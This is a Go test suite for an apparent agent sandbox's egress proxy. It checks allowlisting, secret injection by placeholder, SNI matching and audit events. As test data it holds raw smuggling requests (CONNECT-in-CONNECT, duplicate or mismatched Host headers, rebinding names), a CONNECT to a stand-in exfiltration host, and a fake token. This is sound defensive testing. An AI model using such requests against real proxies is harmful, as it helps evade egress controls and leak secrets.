package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pulse-agent/pulse/internal/testenv"
	"github.com/pulse-agent/pulse/policy"
)

// mapResolver is the documented resolver override of the tests: names map
// to fixed addresses, so that no test looks anything up off the machine.
type mapResolver map[string][]string

func (m mapResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	var out []netip.Addr
	for _, s := range m[strings.ToLower(host)] {
		out = append(out, netip.MustParseAddr(s))
	}
	if len(out) == 0 {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return out, nil
}

// world is a proxy in front of real servers on 127.0.0.1: an HTTP echo
// server, an HTTPS one checking an Authorization header, and an "evil"
// server that counts every connection it gets (it must get none).
type world struct {
	t                *testing.T
	proxy            *Proxy
	addr             string
	http, https      *httptest.Server
	httpPort         int
	httpsPort        int
	evil             net.Listener
	evilPort         int
	evilHits         atomic.Int64
	mu               sync.Mutex
	events           []Event
	ca               *CA
	placeholder      string
	lookups          atomic.Int64
	resolver         mapResolver
	unboundPlacehold string
}

const realToken = "ghp_realTokenValue0123456789abcdef"

func port(t *testing.T, u string) int {
	pu, err := url.Parse(u)
	if err != nil {
		t.Fatal(err)
	}
	p, _ := strconv.Atoi(pu.Port())
	return p
}

func newWorld(t *testing.T, extraAllow ...string) *world {
	t.Helper()
	w := &world{t: t}
	echo := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("X-Auth", r.Header.Get("Authorization"))
		fmt.Fprintf(rw, "hello %s %s", r.Host, r.URL.Path)
	})
	w.http = httptest.NewServer(echo)
	t.Cleanup(w.http.Close)
	w.https = httptest.NewTLSServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+realToken {
			http.Error(rw, "bad token "+r.Header.Get("Authorization"), http.StatusUnauthorized)
			return
		}
		fmt.Fprintf(rw, "authorized %s", r.Host)
	}))
	t.Cleanup(w.https.Close)
	w.httpPort, w.httpsPort = port(t, w.http.URL), port(t, w.https.URL)
	var err error
	w.evil, err = net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.evil.Close() })
	w.evilPort = w.evil.Addr().(*net.TCPAddr).Port
	go func() {
		for {
			c, err := w.evil.Accept()
			if err != nil {
				return
			}
			w.evilHits.Add(1)
			io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil")
			c.Close()
		}
	}()
	w.ca, err = NewCA()
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AddCert(w.https.Certificate())
	w.placeholder = NewPlaceholder("GITHUB_TOKEN")
	w.unboundPlacehold = NewPlaceholder("OTHER")
	allow := append([]string{
		fmt.Sprintf("127.0.0.1:%d", w.httpPort),
		fmt.Sprintf("127.0.0.1:%d", w.httpsPort),
		fmt.Sprintf("allowed.test:%d", w.httpPort),
		fmt.Sprintf("rebind.test:%d", w.httpPort),
		fmt.Sprintf("example.com:%d", w.httpsPort),
	}, extraAllow...)
	w.resolver = mapResolver{
		"allowed.test": {"127.0.0.1"},
		"rebind.test":  {"127.0.0.2", "10.1.2.3"},
		"example.com":  {"127.0.0.1"},
		"evil.test":    {"127.0.0.1"},
	}
	w.proxy, err = New(Config{
		Policy: policy.NetworkPolicy{Mode: policy.NetworkAllowlist, Allow: allow},
		Inject: []Injection{
			{Name: "GITHUB_TOKEN", Value: realToken, Placeholder: w.placeholder, Hosts: []string{"example.com"}},
			{Name: "OTHER", Value: "other-secret-value", Placeholder: w.unboundPlacehold, Hosts: []string{"nowhere.test"}},
		},
		CA:            w.ca,
		UpstreamRoots: roots,
		Resolver:      countingResolver{w},
		OnEvent: func(e Event) {
			w.mu.Lock()
			w.events = append(w.events, e)
			w.mu.Unlock()
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	w.addr = l.Addr().String()
	done := make(chan error, 1)
	go func() { done <- w.proxy.Serve(l) }()
	t.Cleanup(func() {
		w.proxy.Close()
		if err := <-done; !errors.Is(err, ErrClosed) {
			t.Errorf("Serve: %v", err)
		}
		if n := w.evilHits.Load(); n != 0 {
			t.Errorf("the evil server got %d connections", n)
		}
	})
	return w
}

type countingResolver struct{ w *world }

func (c countingResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	c.w.lookups.Add(1)
	return c.w.resolver.LookupNetIP(ctx, network, host)
}

// client is an HTTP client that uses the proxy for http and https and
// trusts the sandbox CA, as a command inside the sandbox would.
func (w *world) client() *http.Client {
	pu, _ := url.Parse("http://" + w.addr)
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(w.ca.CertPEM())
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(pu), TLSClientConfig: &tls.Config{RootCAs: roots}}, Timeout: 10 * time.Second}
}

// raw sends bytes to the proxy and returns all it answers.
func (w *world) raw(req string) string {
	w.t.Helper()
	c, err := net.Dial("tcp", w.addr)
	if err != nil {
		w.t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(c, req)
	b, _ := io.ReadAll(c)
	return string(b)
}

// connect opens a tunnel and returns the connection after a 200, or the
// proxy's whole answer.
func (w *world) connect(target string) (net.Conn, *bufio.Reader, string) {
	w.t.Helper()
	c, err := net.Dial("tcp", w.addr)
	if err != nil {
		w.t.Fatal(err)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		c.Close()
		return nil, nil, "error " + err.Error()
	}
	if resp.StatusCode != 200 {
		b, _ := io.ReadAll(resp.Body)
		c.Close()
		return nil, nil, fmt.Sprintf("%d %s\n%s", resp.StatusCode, resp.Header.Get(DeniedHeader), b)
	}
	return c, br, ""
}

// lastEvent returns the latest event, waiting a little for one: a
// connection's event follows the bytes the client has already read.
func (w *world) lastEvent() Event {
	var e Event
	testenv.Eventually(w.t, 5*time.Second, func() error {
		w.mu.Lock()
		defer w.mu.Unlock()
		if len(w.events) == 0 {
			return errors.New("no event")
		}
		e = w.events[len(w.events)-1]
		return nil
	})
	return e
}

// waitEvent waits for an event that matches.
func (w *world) waitEvent(match func(Event) bool) Event {
	var found Event
	testenv.Eventually(w.t, 5*time.Second, func() error {
		w.mu.Lock()
		defer w.mu.Unlock()
		for _, e := range w.events {
			if match(e) {
				found = e
				return nil
			}
		}
		return errors.New("no matching event")
	})
	return found
}

func assertDenied(t *testing.T, what, answer string) {
	t.Helper()
	if !strings.Contains(answer, "403") || !strings.Contains(answer, "denied") {
		t.Fatalf("%s: not refused by the proxy: %q", what, answer)
	}
	for _, line := range []string{"pulse egress: blocked ", "\nrule: ", "\nto allow it: ", "\nretrying will not help"} {
		if !strings.Contains(answer, line) {
			t.Errorf("%s: refusal lacks %q: %q", what, line, answer)
		}
	}
}

func TestAllowedThroughConnectAndPlainHTTP(t *testing.T) {
	w := newWorld(t)
	resp, err := w.client().Get(w.http.URL + "/plain")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if want := fmt.Sprintf("hello 127.0.0.1:%d /plain", w.httpPort); string(b) != want {
		t.Errorf("plain HTTP: %q, want %q", b, want)
	}
	ev := w.lastEvent()
	if !ev.Allowed || ev.Rule != fmt.Sprintf("127.0.0.1:%d", w.httpPort) || ev.Host != "127.0.0.1" || ev.Port != w.httpPort || ev.Received == 0 || ev.Sent == 0 {
		t.Errorf("event %+v", ev)
	}

	c, br, answer := w.connect(fmt.Sprintf("allowed.test:%d", w.httpPort))
	if c == nil {
		t.Fatalf("CONNECT refused: %s", answer)
	}
	fmt.Fprintf(c, "GET /tunnel HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
	resp, err = http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	b, _ = io.ReadAll(resp.Body)
	c.Close()
	if string(b) != "hello allowed.test /tunnel" {
		t.Errorf("tunnel: %q", b)
	}
	// Waited for, then checked below (the wait's own verdict is not).
	_ = testenv.Poll(5*time.Second, func() error {
		if ev = w.lastEvent(); ev.Method != "CONNECT" {
			return errors.New("no CONNECT event yet")
		}
		return nil
	})
	if ev.Method != "CONNECT" || !ev.Allowed || ev.Host != "allowed.test" || ev.Addr != fmt.Sprintf("127.0.0.1:%d", w.httpPort) || ev.Received == 0 {
		t.Errorf("CONNECT event %+v", ev)
	}
}

func TestRefusals(t *testing.T) {
	w := newWorld(t)
	evil := fmt.Sprintf("127.0.0.1:%d", w.evilPort)
	// cut: the destination is allowed and the refusal is for what the
	// request carries, which the event tells by naming the rule.
	for _, tt := range []struct {
		name, req string
		cut       bool
	}{
		{"CONNECT to an unlisted port", "CONNECT " + evil + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", false},
		{"CONNECT to an unlisted name", "CONNECT evil.test:443 HTTP/1.1\r\n\r\n", false},
		{"plain HTTP, unlisted URI", "GET http://" + evil + "/ HTTP/1.1\r\nHost: " + evil + "\r\n\r\n", false},
		{"plain HTTP, allowed Host header, denied URI", fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", evil, w.httpPort), false},
		{"plain HTTP, allowed URI, denied Host header", fmt.Sprintf("GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: %s\r\n\r\n", w.httpPort, evil), false},
		{"plain HTTP, two Host headers", fmt.Sprintf("GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nHost: %s\r\n\r\n", w.httpPort, w.httpPort, evil), false},
		{"plain HTTP, origin form", fmt.Sprintf("GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", w.httpPort), false},
		{"IPv6 literal not listed", fmt.Sprintf("CONNECT [::1]:%d HTTP/1.1\r\n\r\n", w.httpPort), false},
		{"another loopback address", fmt.Sprintf("CONNECT 127.0.0.2:%d HTTP/1.1\r\n\r\n", w.httpPort), false},
		{"a name resolving to a denied address", fmt.Sprintf("CONNECT rebind.test:%d HTTP/1.1\r\n\r\n", w.httpPort), false},
		{"plain HTTP to a name resolving to a denied address", fmt.Sprintf("GET http://rebind.test:%d/ HTTP/1.1\r\nHost: rebind.test:%d\r\n\r\n", w.httpPort, w.httpPort), false},
		{"a placeholder in a header to an unbound host", fmt.Sprintf("GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\n\r\n", w.httpPort, w.httpPort, w.placeholder), true},
		{"a placeholder in the URL", fmt.Sprintf("GET http://127.0.0.1:%d/?t=%s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", w.httpPort, w.placeholder, w.httpPort), true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			answer := w.raw(tt.req)
			assertDenied(t, tt.name, answer)
			if strings.Contains(answer, realToken) {
				t.Errorf("the real token is in the answer")
			}
			if ev := w.lastEvent(); ev.Allowed || ev.Reason == "" || (ev.Rule != "") != tt.cut {
				t.Errorf("event %+v, want a refusal for what it carries: %v", ev, tt.cut)
			}
		})
	}
	// An unlisted name is refused without being looked up: DNS carries
	// nothing out.
	before := w.lookups.Load()
	w.raw("CONNECT exfiltrate-this.attacker.test:443 HTTP/1.1\r\n\r\n")
	if w.lookups.Load() != before {
		t.Error("an unlisted name was resolved")
	}
}

func TestTunnelRelaysAreCut(t *testing.T) {
	w := newWorld(t)
	evil := fmt.Sprintf("127.0.0.1:%d", w.evilPort)
	for name, inner := range map[string]string{
		"CONNECT in CONNECT":          "CONNECT " + evil + " HTTP/1.1\r\nHost: " + evil + "\r\n\r\n",
		"absolute URI":                "GET http://" + evil + "/ HTTP/1.1\r\nHost: " + evil + "\r\n\r\n",
		"placeholder":                 "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: " + w.placeholder + "\r\n\r\n",
		"Host header of another name": "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
		"bare-LF head, second Host":   "GET / HTTP/1.1\nHost: 127.0.0.1\nHost: evil.test\n\n",
	} {
		t.Run(name, func(t *testing.T) {
			c, br, answer := w.connect(fmt.Sprintf("127.0.0.1:%d", w.httpPort))
			if c == nil {
				t.Fatal(answer)
			}
			defer c.Close()
			io.WriteString(c, inner)
			b, _ := io.ReadAll(br)
			if strings.Contains(string(b), "hello") || strings.Contains(string(b), "evil") {
				t.Errorf("the relayed request was answered: %q", b)
			}
		})
	}
	// A tunnel's event is recorded once the proxy is done with it, which
	// can be after the client has read the end (long after on a loaded
	// machine): waited for, then checked (the wait's own verdict is not).
	denied := func() (n int, events string) {
		w.mu.Lock()
		defer w.mu.Unlock()
		for _, e := range w.events {
			if e.Method == "CONNECT" && !e.Allowed && e.Reason != "" {
				n++
			}
		}
		return n, fmt.Sprintf("%+v", w.events)
	}
	_ = testenv.Poll(time.Minute, func() error {
		if n, _ := denied(); n < 5 {
			return errors.New("not every tunnel audited yet")
		}
		return nil
	})
	if n, events := denied(); n != 5 {
		t.Errorf("%d tunnels audited as refused, want 5: %s", n, events)
	}
}

// clientHello returns the first TLS record a Go client sends for sni.
func clientHello(t testing.TB, sni string) []byte {
	a, b := net.Pipe()
	go func() {
		tls.Client(a, &tls.Config{ServerName: sni, InsecureSkipVerify: true}).Handshake()
		a.Close()
	}()
	defer b.Close()
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(b, hdr); err != nil {
		t.Fatal(err)
	}
	n, _ := helloLen(hdr)
	rec := make([]byte, n)
	copy(rec, hdr)
	if _, err := io.ReadFull(b, rec[5:]); err != nil {
		t.Fatal(err)
	}
	return rec
}

func TestSNIMustMatchTheConnectHost(t *testing.T) {
	w := newWorld(t)
	for _, tt := range []struct{ target, sni string }{
		{fmt.Sprintf("allowed.test:%d", w.httpPort), "evil.test"},
		{fmt.Sprintf("127.0.0.1:%d", w.httpsPort), "evil.test"},
	} {
		c, br, answer := w.connect(tt.target)
		if c == nil {
			t.Fatal(answer)
		}
		c.Write(clientHello(t, tt.sni))
		b, _ := io.ReadAll(br)
		c.Close()
		if len(b) > 0 {
			t.Errorf("%s with SNI %s: the server answered %d bytes", tt.target, tt.sni, len(b))
		}
	}
	// Without SNI mismatch, TLS through an allowed tunnel works.
	pu, _ := url.Parse("http://" + w.addr)
	roots := x509.NewCertPool()
	roots.AddCert(w.https.Certificate())
	cl := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(pu), TLSClientConfig: &tls.Config{RootCAs: roots}}}
	req, _ := http.NewRequest("GET", w.https.URL, nil)
	req.Header.Set("Authorization", "Bearer "+realToken)
	resp, err := cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("status %d", resp.StatusCode)
	}
}

func TestInjection(t *testing.T) {
	w := newWorld(t)
	cl := w.client()
	// The command knows only the placeholder; the server sees the value.
	req, _ := http.NewRequest("GET", fmt.Sprintf("https://example.com:%d/user", w.httpsPort), nil)
	req.Header.Set("Authorization", "Bearer "+w.placeholder)
	resp, err := cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.HasPrefix(string(b), "authorized") {
		t.Fatalf("injected request: %d %q", resp.StatusCode, b)
	}
	if resp.TLS == nil || resp.TLS.PeerCertificates[0].Issuer.CommonName != w.ca.Certificate().Subject.CommonName {
		t.Errorf("bound host not served with the sandbox CA")
	}
	ev := w.waitEvent(func(e Event) bool { return e.Method == "GET" })
	if !ev.Allowed || len(ev.Injected) != 1 || ev.Injected[0] != "GITHUB_TOKEN" || ev.Host != "example.com" {
		t.Errorf("event %+v", ev)
	}
	// Inside the terminated tunnel, the other secret's placeholder is
	// refused, and so is a Host header naming someone else.
	req, _ = http.NewRequest("GET", fmt.Sprintf("https://example.com:%d/user", w.httpsPort), nil)
	req.Header.Set("Authorization", "Bearer "+w.unboundPlacehold)
	resp, err = cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 403 || resp.Header.Get(DeniedHeader) != "denied" || strings.Contains(string(b), "other-secret-value") {
		t.Errorf("unbound placeholder to a bound host: %d %q", resp.StatusCode, b)
	}
	req, _ = http.NewRequest("GET", fmt.Sprintf("https://example.com:%d/user", w.httpsPort), nil)
	req.Host = "evil.test"
	req.Header.Set("Authorization", "Bearer "+w.placeholder)
	resp, err = cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 403 {
		t.Errorf("Host header differing from the tunnel: %d", resp.StatusCode)
	}
	// Hosts without bound secrets are tunnelled, not terminated: the
	// command sees the real server's certificate.
	req, _ = http.NewRequest("GET", w.https.URL, nil)
	roots := x509.NewCertPool()
	roots.AddCert(w.https.Certificate())
	pu, _ := url.Parse("http://" + w.addr)
	direct := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(pu), TLSClientConfig: &tls.Config{RootCAs: roots}}}
	req.Header.Set("Authorization", "Bearer "+realToken)
	resp, err = direct.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.TLS.PeerCertificates[0].Subject.String() != w.https.Certificate().Subject.String() {
		t.Errorf("unbound host was terminated")
	}
}

func TestServerName(t *testing.T) {
	if got, err := serverName(clientHello(t, "api.github.com")); err != nil || got != "api.github.com" {
		t.Errorf("serverName = %q, %v", got, err)
	}
	rec := clientHello(t, "")
	if got, err := serverName(rec); err != nil || got != "" {
		t.Errorf("no SNI: %q, %v", got, err)
	}
	for i := range len(rec) - 1 {
		if _, err := serverName(rec[:i]); err == nil {
			t.Fatalf("truncated at %d accepted", i)
		}
	}
}

func FuzzServerName(f *testing.F) {
	f.Add(clientHello(f, "example.com"))
	f.Add(clientHello(f, ""))
	f.Add([]byte{0x16, 3, 1, 0, 4, 1, 0, 0, 0})
	f.Fuzz(func(t *testing.T, b []byte) {
		name, err := serverName(b)
		if err != nil && name != "" {
			t.Fatal("a name with an error")
		}
		if len(name) > 255 || strings.ContainsAny(name, "\x00/:[] ") {
			t.Fatalf("name %q", name)
		}
	})
}

// Close ends a tunnel whose upstream neither sends nor closes, and a
// plain request still waiting for its upstream's answer: nothing the
// proxy started outlives it.
func TestCloseEndsIdleUpstreams(t *testing.T) {
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	var held []net.Conn
	var mu sync.Mutex
	go func() {
		for {
			c, err := silent.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			held = append(held, c)
			mu.Unlock()
		}
	}()
	defer func() {
		mu.Lock()
		for _, c := range held {
			c.Close()
		}
		mu.Unlock()
	}()
	p, err := New(Config{Policy: policy.NetworkPolicy{Mode: policy.NetworkAllowlist, Allow: []string{silent.Addr().String()}}})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go p.Serve(l)
	tunnel, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer tunnel.Close()
	fmt.Fprintf(tunnel, "CONNECT %s HTTP/1.1\r\n\r\n", silent.Addr())
	if resp, err := http.ReadResponse(bufio.NewReader(tunnel), nil); err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v", err)
	}
	plain, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close()
	fmt.Fprintf(plain, "GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n", silent.Addr(), silent.Addr())
	time.Sleep(100 * time.Millisecond) // both are waiting on the silent upstream
	closed := make(chan struct{})
	go func() { p.Close(); close(closed) }()
	select {
	case <-closed:
	case <-time.After(10 * time.Second):
		t.Fatal("Close waited for an idle upstream")
	}
}

// A command that keeps sending after its CONNECT (here 256 KiB the
// proxy never reads) still gets the whole refusal: the proxy shuts its
// side and reads the rest away instead of closing with input unread,
// which would send a reset that can take the explanation with it.
func TestRefusalReachesAClientStillSending(t *testing.T) {
	w := newWorld(t)
	c, err := net.Dial("tcp", w.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	evil := fmt.Sprintf("127.0.0.1:%d", w.evilPort)
	sent := make(chan error, 1)
	go func() {
		_, err := io.WriteString(c, "CONNECT "+evil+" HTTP/1.1\r\nHost: "+evil+"\r\n\r\n"+strings.Repeat("x", 256<<10))
		sent <- err
	}()
	// Only once everything is written (the proxy has read what it will
	// and answered), read the answer.
	if err := <-sent; err != nil {
		t.Fatalf("writing after the CONNECT: %v (the proxy reset the connection)", err)
	}
	b, err := io.ReadAll(c)
	if err != nil {
		t.Fatalf("reading the refusal: %v (got %q)", err, b)
	}
	assertDenied(t, "CONNECT with 256 KiB after it", string(b))
}
